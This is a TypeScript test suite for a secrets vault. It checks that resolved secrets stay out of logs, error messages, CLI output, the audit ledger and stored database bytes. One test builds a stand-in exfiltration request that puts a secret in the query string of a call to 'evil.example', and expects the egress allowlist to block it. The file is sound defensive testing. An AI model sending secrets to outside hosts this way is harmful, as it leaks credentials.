// Sink scan (invariant 2): seeded secrets, once resolved for a step, appear in no log line, error,
// problem document, ledger event or stored byte, whichever way a careless step tries to leak them.
import { readFileSync } from 'node:fs';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DIALECTS } from '../helpers/dialects.ts';
import { reportError, type CliIo } from '../../src/cli/context.ts';
import { EgressClient } from '../../src/egress/index.ts';
import { CustosError, toProblem } from '../../src/errors/index.ts';
import { clearSecrets, createLogger, scrubSecrets } from '../../src/observe/index.ts';
import { scrubOutput, type SecretValue } from '../../src/secrets/index.ts';
import { ADMIN, ENGINE, setupVault, WS, type VaultFixture } from './setup.ts';

const SEEDED = {
  STRIPE_KEY: 'sk_live_51HxSeededStripeValue',
  MAIL_PASSWORD: 'Tr0ub4dor&3-seeded',
  WEBHOOK_SECRET: 'whsec_9f8e7d6c5b4a3928',
} as const;

function capture(): { stream: PassThrough; text: () => string } {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (c: Buffer) => chunks.push(c));
  return { stream, text: () => Buffer.concat(chunks).toString('utf8') };
}

function leaks(text: string): string[] {
  const found: string[] = [];
  for (const [name, value] of Object.entries(SEEDED)) {
    const forms = [value, Buffer.from(value).toString('base64'), encodeURIComponent(value)];
    if (forms.some((form) => text.includes(form))) found.push(name);
  }
  return found;
}

for (const dialect of DIALECTS) {
  describe(`sink scan for seeded secrets (${dialect})`, () => {
    let f: VaultFixture;
    let resolved: SecretValue[];
    beforeEach(async () => {
      clearSecrets();
      f = await setupVault(dialect);
      resolved = [];
      for (const [name, value] of Object.entries(SEEDED)) {
        await f.vault.set({ workspace: WS, name, connector: 'svc', value, actor: ADMIN });
        resolved.push(
          await f.vault.resolveForStep({
            workspace: WS,
            name,
            connector: 'svc',
            env: 'prod',
            runId: 'run-1',
            correlationId: 'corr-1',
            actor: ENGINE,
          }),
        );
      }
    });
    afterEach(async () => {
      clearSecrets();
      await f.cleanup();
    });

    it('keeps resolved values out of logs', async () => {
      const out = capture();
      const logger = createLogger({ level: 'debug', destination: out.stream });
      for (const secret of resolved) {
        const raw = secret.reveal();
        logger.info(`calling with ${raw}`);
        logger.warn('header', { headers: { 'x-custom': raw }, nested: { deep: [raw, { v: raw }] } });
        logger.error('failed', { err: new Error(`upstream said ${raw}`), secret });
        logger.debug('encoded', {
          b64: Buffer.from(raw).toString('base64'),
          url: `https://x/?k=${encodeURIComponent(raw)}`,
        });
        logger.child({ token: raw }).info('child');
      }
      await new Promise((r) => setImmediate(r));
      const text = out.text();
      expect(text.split('\n').filter(Boolean).length).toBeGreaterThanOrEqual(15);
      expect(leaks(text)).toEqual([]);
    });

    it('keeps resolved values out of errors, problem documents and CLI error output', async () => {
      const errors: unknown[] = [];
      for (const secret of resolved) {
        const raw = secret.reveal();
        errors.push(
          new CustosError('INPUT_INVALID', `bad value ${raw}`, { details: { field: 'x', rule: raw } }),
        );
        errors.push(new Error(`plain ${raw}`));
      }
      const client = new EgressClient({
        policies: (c) => ({ connector: c, allowedHosts: ['api.example.com'], clearance: 'internal' }),
        audit: f.audit,
        resolver: () => Promise.resolve([{ address: '10.0.0.1', family: 4 }]),
      });
      for (const secret of resolved) {
        errors.push(
          await client
            .fetch(
              'svc',
              { url: 'https://api.example.com/', headers: { authorization: secret } },
              { context: { workspace: WS, actor: ENGINE } },
            )
            .catch((e: unknown) => e),
        );
        errors.push(
          await client
            .fetch(
              'svc',
              { url: `https://evil.example/?k=${secret.reveal()}`, headers: { authorization: secret } },
              { context: { workspace: WS, actor: ENGINE } },
            )
            .catch((e: unknown) => e),
        );
      }
      const stderr = capture();
      const io: CliIo = {
        stdout: capture().stream,
        stderr: stderr.stream,
        env: {},
        readStdin: () => Promise.resolve(''),
      };
      for (const err of errors) {
        expect(err).toBeInstanceOf(Error);
        // Whatever a careless step put in a message, the edges print it scrubbed.
        expect(leaks(scrubSecrets(JSON.stringify(toProblem(err))))).toEqual([]);
        reportError(io, err, false);
        reportError(io, err, true);
      }
      await new Promise((r) => setImmediate(r));
      expect(stderr.text()).toContain('error ');
      expect(leaks(stderr.text())).toEqual([]);
      // Egress errors never carried the value in the first place, not even before scrubbing.
      const egress = errors.filter((e) => e instanceof CustosError && e.code.startsWith('EGRESS_'));
      expect(egress.map((e) => (e as CustosError).code).sort()).toEqual([
        ...Array<string>(3).fill('EGRESS_ADDRESS_FORBIDDEN'),
        ...Array<string>(3).fill('EGRESS_HOST_NOT_ALLOWED'),
      ]);
      for (const err of egress) {
        expect(
          leaks(`${(err as Error).message} ${JSON.stringify(err)} ${JSON.stringify(toProblem(err))}`),
        ).toEqual([]);
      }
    });

    it('scrubs step outputs that echo a value back', () => {
      const raw = resolved.map((s) => s.reveal());
      const output = {
        echoed: `auth=${raw[0] ?? ''}`,
        list: [raw[1], { deep: raw[2] }],
        [raw[0] ?? 'k']: 'as a key',
        bytes: Buffer.from(`x ${raw[1] ?? ''} y`),
        count: 3,
        ok: true,
        none: null,
      };
      const clean = scrubOutput(output) as { bytes: Buffer };
      expect(leaks(JSON.stringify({ ...clean, bytes: clean.bytes.toString('utf8') }))).toEqual([]);
      expect(clean.bytes.toString('utf8')).toBe('x [secret] y');
      expect(clean).toMatchObject({
        echoed: 'auth=[secret]',
        list: ['[secret]', { deep: '[secret]' }],
        '[secret]': 'as a key',
        count: 3,
        ok: true,
        none: null,
      });
    });

    it('keeps values out of the ledger and out of the stored bytes', async () => {
      expect(f.audit.events.length).toBeGreaterThanOrEqual(6);
      expect(leaks(JSON.stringify(f.audit.events))).toEqual([]);
      const rows = await f.t.store.db.selectFrom('secret_versions').selectAll().execute();
      expect(
        leaks(
          JSON.stringify(rows, (_k, v: unknown) =>
            v instanceof Uint8Array ? Buffer.from(v).toString('latin1') : v,
          ),
        ),
      ).toEqual([]);
      if (f.t.options.dialect === 'sqlite') {
        f.t.store.sqlite?.raw.exec('PRAGMA wal_checkpoint(TRUNCATE)');
        expect(leaks(readFileSync(f.t.options.file).toString('latin1'))).toEqual([]);
      }
    });
  });
}
